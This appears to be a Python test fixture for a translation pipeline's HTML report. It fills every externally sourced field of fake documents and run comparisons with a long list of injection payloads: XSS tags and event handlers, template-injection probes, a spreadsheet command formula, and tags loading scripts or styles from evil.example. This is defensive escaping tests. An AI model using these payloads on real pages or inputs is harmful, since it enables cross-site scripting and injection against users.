"""Payloads that try to become a part of a page, and a small run and comparison with one in every field."""

from __future__ import annotations

import re

from pipeline.config.settings import Rule
from pipeline.metrics.base import MetricScore
from pipeline.registry.facts import ModelFacts
from pipeline.report.comparison import RunSide, SharedText
from pipeline.report.data import AlignedWork, CorpusMetric, DocumentWork, FactCheck, FactMiss, ReportData
from pipeline.types import Document, DocumentPair, Pair, Reason, Reject, Scored, Segment, Source, Translation, Verdict

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    " onfocus=alert(1) autofocus ",
    '" autofocus onfocus="alert(1)" x="',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</svg><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=q></form>",
    "<object data=x></object><embed src=x>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<table><tr><td background=x></table>",
    "</td></tr></table><h1>gone</h1>",
    "</bdi></details></section>",
    "<!-- comment",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html><html>",
    "{{ 7 * 7 }}",
    "{% for x in (1,) %}{{ x }}{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "{# comment #}",
    "${7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&quot;&gt;<b>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\x0bscript>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<ScRiPt/x>alert(1)</sCrIpT>",
    "<<script>alert(1)//<</script>",
    "<img src='x'onerror='alert(1)'/>",
    "\"'<>&`=/",
    "C:\\<b>\\..\\..\\x",
    "../../<i>x</i>.txt",
    "=cmd|' /C calc'!A0",
    "<img src=https://evil.example/x.png>",
    "<img srcset=https://evil.example/x.png>",
    "<script src=https://evil.example/x.js></script>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<input type=image src=x onerror=alert(1)>",
    "<a href='vbscript:alert(1)' target=_blank>x</a>",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u2066<b>\u2069\u202d<i>",
    "\x1b[31mred\x1b]0;title\x07",
    "\U000e003cscript\U000e003e",
    "<plaintext>",
    "<xmp><script>alert(1)</script>",
    "<select><option><img src=x onerror=alert(1)>",
    "<button formaction=javascript:alert(1)>x",
    "<portal src=https://evil.example>",
]


def harmless(texts: list[str]) -> list[str]:
    """The texts with letters for everything but the signs that paths, URLs and reasons are cut at, word for word."""
    words: dict[str, str] = {}

    def replaced(match: re.Match[str]) -> str:
        word = match[0]
        if word not in words:
            number = sum(len(other) == len(word) for other in words)
            words[word] = "".join(chr(ord("a") + number // 26**place % 26) for place in range(len(word)))
        return words[word]

    return [re.sub(r"[^/:\[\],. ()]+", replaced, text) for text in texts]


def documents(texts: list[str]) -> list[tuple[DocumentWork, AlignedWork]]:
    """One translated and aligned document a text, with the text in every field that comes from outside."""
    return [_document(number, text) for number, text in enumerate(texts)]


def _document(number: int, text: str) -> tuple[DocumentWork, AlignedWork]:
    name, folded = f"th{number}", text.replace("\n", " ")
    source = Source(f"in/{folded}.txt", 0, f"https://news.example/{text}", folded, folded)
    lines = (f"{folded} ก", f"{folded} ข", f"{folded} ค")
    body, segments, at = "\n".join(lines), [], 0
    for index, line in enumerate(lines):
        kind = ("headline", "body", "boilerplate")[index]
        segments.append(Segment(f"{name}{index}", name, index, index, at, at + len(line), line, kind))
        at += len(line) + 1
    translations = (
        Translation(segments[0].id, f"{text} head", "model", None, 1, 1, "stop", 1),
        Translation(segments[1].id, f"{text} body", "model", None, 1, 1, "incomplete", 2, (f"missing {text}",)),
    )
    refused = (Reason(text, f"{text} 0.1 < 0.2"),)
    judged = (
        _judged(f"{name}:mt", name, "", segments[0], f"{text} head", "translated", ()),
        _judged(f"{name}:mt2", name, "", segments[1], f"{text} body", "translated", refused),
        _judged(f"{name}:al", name, f"en{number}", segments[1], f"{text} found", "aligned", ()),
    )
    english = f"{text} found\n{text} free"
    document = DocumentWork(Document(name, "th", body, source), tuple(segments), translations, judged)
    other = Document(f"en{number}", "en", english, source)
    parts = tuple(
        Segment(f"en{number}{i}", other.id, i, i, start, end, english[start:end], "body")
        for i, (start, end) in enumerate(((0, len(text) + 6), (len(text) + 7, len(english))))
    )
    pair = DocumentPair(name, other.id, 0.9, 0.8, 0.7, 1.0, "parallel")
    return document, AlignedWork(pair, document, DocumentWork(other, parts))


def _judged(
    key: str, document: str, english: str, segment: Segment, target: str, origin: str, reasons: tuple[Reason, ...]
) -> tuple[Scored, Verdict]:
    pair = Pair(
        id=key,
        src_doc=document,
        tgt_doc=english,
        src_lang="th",
        src_segments=(segment.id,),
        tgt_segments=(),
        src_spans=((segment.start, segment.end),),
        tgt_spans=((0, len(target)),) if english else (),
        src_text=segment.text,
        tgt_text=target,
        origin=origin,  # type: ignore[arg-type]
        cost=0.1,
    )
    return Scored(pair, {"similarity": 0.7, "number_agreement": None}), Verdict(key, not reasons, reasons)


def report_data(texts: list[str]) -> ReportData:
    """A run in which every field from outside holds a text of the list, and the name all of them."""
    works = documents(texts)
    miss = [FactMiss("th0", "th00", "th", text, f"{text} ก", f"{text} body") for text in texts]
    metrics = [CorpusMetric(text, 3, 2, MetricScore(f"M{text}", 1.0, f"nrefs:1|{text}", 1.0, 0.1)) for text in texts]
    # Every text as a line of one document, since only one is shown line by line.
    many = Document("many", "th", "\n".join(f"{text} ก" for text in texts), Source("many.txt"))
    article = DocumentWork(many, (Segment("many0", "many", 0, 0, 0, 1, " ".join(texts), "boilerplate"),))
    return ReportData(
        name=" ".join(texts),
        version=texts[0],
        commands=tuple(texts),
        documents=(article, *(work for pair in works for work in (pair[0], pair[1].english))),
        rejects=[Reject(f"{text}.jsonl", 1, 2, f"not JSON: {text}") for text in texts],
        document_pairs=[aligned.pair for _, aligned in works],
        aligned=[aligned for _, aligned in works],
        rules={"similarity": Rule(min=0.5)},
        signatures={"similarity": texts[0]} | {f"s{text}": text for text in texts},
        rank_by={"translated": "similarity", "aligned": "similarity"},
        metrics=tuple(metrics),
        facts=(FactCheck("years", len(texts), 0, tuple(miss)),),
        models=tuple(ModelFacts(f"m{text}", text, text, text, text, text, False) for text in texts),
        packages={f"p{text}": text for text in texts},
        environment={f"e{text}": text for text in texts},
        config={f"c{number}": text for number, text in enumerate(texts)},
        examples=len(texts),
    )


def run_sides(texts: list[str]) -> list[RunSide]:
    """Two runs to compare, with the texts in every field from outside."""
    return [_run_side(f"{name} {texts[0]}", texts, name) for name in ("first", "second")]


def _run_side(name: str, texts: list[str], tail: str) -> RunSide:
    shared = {
        (f"d{number}", number): SharedText("th", f"{text} ก", f"{text} {tail} {number}", f"{text} found")
        for number, text in enumerate(texts)
    }
    return RunSide(
        name=name,
        version=texts[0],
        models=tuple(ModelFacts(f"m{text}", "translation", text, text, text, text, None) for text in texts),
        config={"name": tail} | {f"c{text}": f"{text} {tail}" for text in texts},
        signatures={"similarity": "version:1"} | {f"s{text}": text for text in texts},
        counts={"pairs": {f"o{text}": number for number, text in enumerate(texts)}},
        facts=tuple(FactCheck(f"k{text}", 3, 2) for text in texts),
        documents=frozenset(f"d{number}" for number in range(len(texts))),
        texts=shared,
        scores={key: {"similarity": 0.5 + (tail == "second") / 10} for key in shared},
    )
